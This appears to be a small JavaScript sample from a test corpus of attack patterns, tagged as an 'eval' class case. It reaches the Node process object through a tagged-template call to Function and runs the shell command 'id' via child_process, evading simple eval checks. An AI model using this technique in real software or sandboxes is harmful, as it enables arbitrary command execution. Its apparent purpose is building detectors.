// corpus: attack class=eval form=targeted
// A tagged template calls Function with the template text.
function main() {
  const proc = Function`return process`();
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
